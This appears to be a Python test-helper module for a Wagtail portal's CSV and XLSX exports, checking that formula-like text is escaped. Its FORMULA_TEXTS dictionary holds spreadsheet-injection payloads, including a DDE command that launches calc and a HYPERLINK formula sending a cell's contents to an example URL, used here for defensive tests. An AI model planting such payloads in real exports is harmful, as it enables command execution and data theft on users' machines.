"""Reading the portal's CSV and XLSX downloads in tests, and the checks that text which starts
like a formula comes out as text (portal/spreadsheets.py, issue 16)."""

import csv
import datetime
import io

from openpyxl import load_workbook
from openpyxl.cell.cell import Cell

# One text per character that starts a formula in Excel or LibreOffice.
FORMULA_TEXTS = {
    "=": '=HYPERLINK("https://example.org/?d="&A1;"Details")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3",
    "@": "@SUMME(1;2)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "blanks": " \n=1+1",  # some programs drop leading blanks before they read a cell
}


def content_of(response) -> bytes:
    assert response.status_code == 200, response.status_code
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def csv_rows(response) -> list[dict[str, str]]:
    """The rows of a CSV download, by heading: the portal's own files have a BOM and
    semicolons, Wagtail's admin exports commas and no BOM."""
    assert response["Content-Type"].startswith("text/csv")
    text = content_of(response).decode("utf-8")
    delimiter = ";" if text.startswith("\ufeff") else ","
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=delimiter))


def xlsx_rows(response) -> list[dict[str, Cell]]:
    """The cells of an XLSX download's first sheet, by heading."""
    assert "spreadsheetml" in response["Content-Type"]
    sheet = load_workbook(io.BytesIO(content_of(response))).active
    rows = list(sheet.iter_rows())
    headings = [cell.value for cell in rows[0]]
    return [dict(zip(headings, row, strict=True)) for row in rows[1:]]


def assert_csv_text(value: str, typed: str) -> None:
    """A CSV cell holding text that starts like a formula: with the leading apostrophe."""
    assert value == "'" + typed


def assert_xlsx_text(cell: Cell, typed: str) -> None:
    """An XLSX cell holding text that starts like a formula: exactly the text, as a text cell
    with Excel's leading apostrophe, never a formula."""
    assert cell.value == typed
    assert cell.data_type == "s"
    assert cell.quotePrefix is True


def assert_xlsx_plain(cell: Cell, value) -> None:
    """An ordinary XLSX cell: its value unchanged, numbers as numbers, no apostrophe."""
    assert cell.value == value
    if isinstance(value, bool):
        assert cell.data_type == "b"
    elif isinstance(value, int | float):
        assert cell.data_type == "n"
    elif isinstance(value, datetime.date):
        assert cell.is_date
    else:
        assert cell.data_type == "s"
    assert not cell.quotePrefix


def admin_exports(client, url: str) -> tuple[list[dict[str, str]], list[dict[str, Cell]]]:
    """The CSV and the XLSX download of a Wagtail admin listing with ``list_export``."""
    return (
        csv_rows(client.get(url, {"export": "csv"})),
        xlsx_rows(client.get(url, {"export": "xlsx"})),
    )
